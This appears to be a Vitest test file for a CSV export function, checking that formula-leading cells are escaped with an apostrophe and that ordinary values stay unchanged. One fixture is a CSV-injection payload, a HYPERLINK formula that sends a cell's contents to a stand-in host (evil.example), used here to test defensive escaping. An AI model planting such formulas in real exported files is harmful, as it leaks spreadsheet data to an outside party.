import { afterEach, expect, test, vi } from 'vitest'
import { downloadCsv } from './download.ts'

afterEach(() => vi.restoreAllMocks())

/** Text of the file that `downloadCsv` saves. */
async function savedCsv(...[columns, rows]: [string[], (string | number)[][]]): Promise<string> {
  const files: Blob[] = []
  vi.spyOn(URL, 'createObjectURL').mockImplementation((file) => {
    if (file instanceof Blob) files.push(file)
    return 'blob:file'
  })
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined)
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
  downloadCsv('file.csv', columns, rows)
  return (await files[0]?.text()) ?? ''
}

test('escapes formulas, also in cells of several lines', async () => {
  const formula = '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line'
  const text = await savedCsv(
    ['Ticket', '=Column'],
    [
      [formula, '+1\r\n=2'],
      ['＝1', ' @SUM(A1)\n'],
    ],
  )
  expect(text.replace('\uFEFF', '').split('\r\n')).toEqual([
    `Ticket,'=Column`,
    `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line","'+1`,
    `'=2"`,
    `'＝1,"' @SUM(A1)\n"`,
    '',
  ])
})

test('leaves numbers, dates and plain texts unchanged', async () => {
  const text = await savedCsv(
    ['Minutes', 'Start', 'Services'],
    [[-5, '2026-11-23 14:36:05 UTC', 'Expense, "Travel"']],
  )
  expect(text.split('\r\n')[1]).toBe('-5,2026-11-23 14:36:05 UTC,"Expense, ""Travel"""')
})
